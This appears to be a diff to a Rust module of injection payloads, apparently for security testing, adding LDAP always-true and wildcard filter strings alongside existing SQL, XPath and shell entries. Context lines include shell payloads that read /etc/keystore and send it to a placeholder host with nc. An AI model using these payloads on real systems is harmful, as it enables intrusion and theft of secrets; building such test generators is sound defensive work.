@@ -18,6 +18,10 @@ pub enum Injection {
     XpathUnion,
     /// Makes the predicate of an XPath expression hold always.
     XpathAlways,
+    /// Adds an alternative to an LDAP filter that every entry fulfils.
+    LdapAlways,
+    /// Has an LDAP filter match any value.
+    LdapWildcard,
     /// Ends a command and adds another that sends a file away.
     ShellSeparator,
     /// Has a word of a command replaced by the output of another.
@@ -57,6 +61,9 @@ const XPATH_UNION: [&str; 3] = [
 ];
 const XPATH_ALWAYS: [&str; 3] =
     ["x' or '1'='1", "' or true() or '", "x' or count(//*) < {n} or 'a'='b"];
+const LDAP_ALWAYS: [&str; 3] =
+    ["x)(objectClass=*", "x{n})(objectclass=*)(cn=x", "x)(!(cn={n}))(uid=*"];
+const LDAP_WILDCARD: [&str; 3] = ["*", "*p*", "4*"];
 const SHELL_SEPARATOR: [&str; 6] = [
     "x; cat /etc/keystore | nc {host} 9",
     "x | cat /etc/keystore | nc {host} {n}",
@@ -87,13 +94,15 @@ const LIST_BUSY: [&str; 1] = [
 
 impl Injection {
     /// All of them.
-    pub const ALL: [Self; 12] = [
+    pub const ALL: [Self; 14] = [
         Self::SqlUnion,
         Self::SqlStacked,
         Self::SqlAlways,
         Self::SqlNumber,
         Self::XpathUnion,
         Self::XpathAlways,
+        Self::LdapAlways,
+        Self::LdapWildcard,
         Self::ShellSeparator,
         Self::ShellSubstitution,
         Self::Option,
@@ -110,6 +119,8 @@ impl Injection {
             Self::SqlNumber => &SQL_NUMBER,
             Self::XpathUnion => &XPATH_UNION,
             Self::XpathAlways => &XPATH_ALWAYS,
+            Self::LdapAlways => &LDAP_ALWAYS,
+            Self::LdapWildcard => &LDAP_WILDCARD,
             Self::ShellSeparator => &SHELL_SEPARATOR,
             Self::ShellSubstitution => &SHELL_SUBSTITUTION,
             Self::Option => &OPTION,
